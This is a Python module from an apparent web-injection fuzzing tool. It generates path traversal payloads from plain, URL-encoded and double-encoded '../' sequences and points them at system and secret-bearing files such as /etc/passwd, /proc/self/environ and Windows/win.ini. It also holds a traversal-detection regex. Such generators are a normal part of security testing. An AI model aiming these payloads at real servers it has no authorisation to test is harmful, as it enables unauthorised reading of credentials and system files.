# webinject/generators/traversal.py
import re
from typing import Sequence

from webinject.core.errors import GenerationError
from webinject.generators.base import BaseGenerator, DEFAULT_SIZE


# Parent-directory marker followed by a separator, plain or (double) encoded
TRAVERSAL_PATTERN = (
    r"^(?:(?:\.\.|%2e%2e|%252e%252e)(?:/|\\|%2f|%5c|%252f|%255c))+"
)
TRAVERSAL_RX = re.compile(TRAVERSAL_PATTERN)

_UPS = ["..", "%2e%2e", "%252e%252e"]
_SEPS = ["/", "\\", "%2f", "%5c", "%252f", "%255c"]

UNIX_TARGETS = [
    "etc/passwd",
    "etc/hosts",
    "proc/self/environ",
    "proc/self/cmdline",
    "var/log/auth.log",
]
WIN_TARGETS = [
    "Windows/win.ini",
    "boot.ini",
    "Windows/System32/drivers/etc/hosts",
]

_NAME_CHARS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"


class DirTraversal(BaseGenerator):
    """
    Path traversal:
      - Parent markers `..`, `%2e%2e` and `%252e%252e`.
      - Separators `/` and `\\`, plain, encoded and double encoded.
      - One separator style per payload, repeated up to `max_depth` times.
    """

    finite = False

    def __init__(self, max_depth: int = 8):
        if max_depth < 1:
            raise GenerationError("max_depth must be >= 1")
        self.name = "Path traversal"
        self.max_depth = max_depth

    def traversal(self, rnd) -> str:
        up = rnd.choice(_UPS)
        sep = rnd.choice(_SEPS)
        return (up + sep) * rnd.randint(1, self.max_depth)

    def file(self, rnd, size) -> str:
        return ""

    def generate(self, size=DEFAULT_SIZE, seed=0):
        rnd = self.rng(seed)
        while True:
            yield self.traversal(rnd) + self.file(rnd, size)


class FixedFileTraversal(DirTraversal):
    """Traversal towards one of the given file names, kept verbatim."""

    def __init__(self, names: Sequence[str] = tuple(UNIX_TARGETS + WIN_TARGETS), max_depth: int = 8):
        super().__init__(max_depth)
        if not names:
            raise GenerationError("at least one file name is required")
        self.name = "Path traversal (fixed file)"
        self.names = tuple(names)

    def file(self, rnd, size) -> str:
        return rnd.choice(self.names)


class FileTraversal(DirTraversal):
    """Traversal towards a random file name with the given extension."""

    def __init__(self, extension: str, max_depth: int = 8):
        super().__init__(max_depth)
        if not extension:
            raise GenerationError("extension must not be empty")
        self.name = "Path traversal (random file)"
        self.extension = extension if extension.startswith(".") else "." + extension

    def file(self, rnd, size) -> str:
        n = rnd.randint(1, max(1, size))
        return "".join(rnd.choice(_NAME_CHARS) for _ in range(n)) + self.extension
